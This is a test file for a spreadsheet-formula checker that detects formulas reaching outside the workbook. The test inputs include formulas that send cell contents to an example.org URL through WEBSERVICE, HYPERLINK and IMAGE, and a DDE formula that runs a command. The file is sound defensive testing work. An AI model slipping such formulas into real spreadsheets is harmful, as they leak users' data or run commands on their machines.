import { reachesOut } from '../../../../../src/core/sheet/formula/reaches-out.ts';

describe('what of a formula reaches outside the workbook', () => {
  it.each([
    ['=WEBSERVICE("https://example.org/?x="&C4)', 'WEBSERVICE'],
    ['=IF(A1="",1,_xlfn.webservice (B2))', 'WEBSERVICE'],
    ['=HYPERLINK("https://example.org/?x="&C4,"Total")', 'HYPERLINK'],
    ['=_xlfn.IMAGE("https://example.org/"&A1)', 'IMAGE'],
    ['=RTD("server",,A1)', 'RTD'],
    ['=CUBEVALUE("connection",A1)', 'CUBEVALUE'],
    ["=cmd|'/c calc'!A1", 'cmd'],
    ["=SUM('C:\\files\\[Book.xlsx]Sheet1'!A1:A9)", 'Book.xlsx'],
    ['=[Book.xlsx]Sheet1!A1', 'Book.xlsx'],
    ['=CONTOSO.SEND(A1)', 'CONTOSO.SEND'],
  ])('%s', (formula, outside) => {
    expect(reachesOut(formula)).toBe(outside);
  });

  it.each([
    '=SUM(C4:C7)',
    '=STDEV.S(A1:A9)+T.DIST.2T(1,2)+FORECAST.ETS.SEASONALITY(A1:A9,B1:B9)',
    '=_xlfn._xlws.FILTER(A1:A9,B1:B9>0)',
    '=SUM(Deals[Value])*Deals[[#Totals],[Value]]',
    "=SUM('Sheet | 1'!A1)&Sheet2!B2",
    '="WEBSERVICE(x) [a]b! | "&A1',
    '=LET(x,1,x+NETWORKDAYS.INTL(A1,B1))',
    '=ERROR.TYPE(A1)',
    '=INKSTONE.ASK("Which?",A1)',
  ])('%s does not', (formula) => {
    expect(reachesOut(formula)).toBeUndefined();
  });
});
